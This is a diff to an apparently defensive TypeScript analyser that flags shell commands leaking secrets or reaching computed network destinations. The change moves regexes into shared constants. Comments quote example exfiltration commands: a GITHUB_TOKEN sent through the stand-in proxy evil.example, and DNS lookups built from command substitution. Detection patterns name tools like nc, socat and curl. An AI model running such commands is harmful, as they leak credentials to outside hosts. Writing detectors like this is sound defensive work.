@@ -271,7 +271,7 @@ export function judgeSecretOutput(
 
 /** `https_proxy=http://evil.example curl -H "Authorization: token $GITHUB_TOKEN" …`: the proxy sees the token. */
 function proxiedSecret(name: string, args: readonly Arg[], cmd: SimpleCommand): Analysis | undefined {
-  if (!isNetworkSink(name, cmd) && !/^(http|https|xh|xhs|aria2c|curlie)$/.test(name)) return undefined;
+  if (!isNetworkSink(name, cmd) && !HTTP_TOOLS.test(name)) return undefined;
   const routed = routingAssignment(cmd);
   if (!routed) return undefined;
   const vars = [...new Set([...secretVars(args), ...(cmd.stdinVars ?? []).filter(isSecretName)])];
@@ -321,12 +321,18 @@ export function judgeDestination(name: string, args: readonly Arg[]): Analysis |
   return computedDestination(name, args) ?? secret;
 }
 
+// Tests run on every command, compiled once (a regex literal in a function is a new object per call).
+const HTTP_TOOLS = /^(http|https|xh|xhs|aria2c|curlie)$/;
+const SUBSTITUTION = /\$\(|`/;
+const NAME_LOOKUP = /^(dig|nslookup|host|drill|ping|ping6|traceroute|whois)$/;
+const CONNECTS = /^(curl|wget|http|https|xh|nc|ncat|netcat|socat|telnet)$/;
+
 /** A network destination computed by a command at run time (`https://$(echo … | base64 -d)/x`, `dig $(whoami).x.com`). */
 function computedDestination(name: string, args: readonly Arg[]): Analysis | undefined {
-  const substituted = (v: string) => /\$\(|`/.test(v);
-  const computed = /^(dig|nslookup|host|drill|ping|ping6|traceroute|whois)$/.test(name)
+  const substituted = (v: string) => SUBSTITUTION.test(v);
+  const computed = NAME_LOOKUP.test(name)
     ? args.find((a) => a.dynamic && !a.value.startsWith('-') && substituted(a.value))
-    : /^(curl|wget|http|https|xh|nc|ncat|netcat|socat|telnet)$/.test(name)
+    : CONNECTS.test(name)
       ? args.find(
           (a) =>
             a.dynamic && (/^[a-z][a-z0-9+.-]*:\/\/[^/]*(\$\(|`)/i.test(a.value) || /^(\$\(|`)/.test(a.value)),
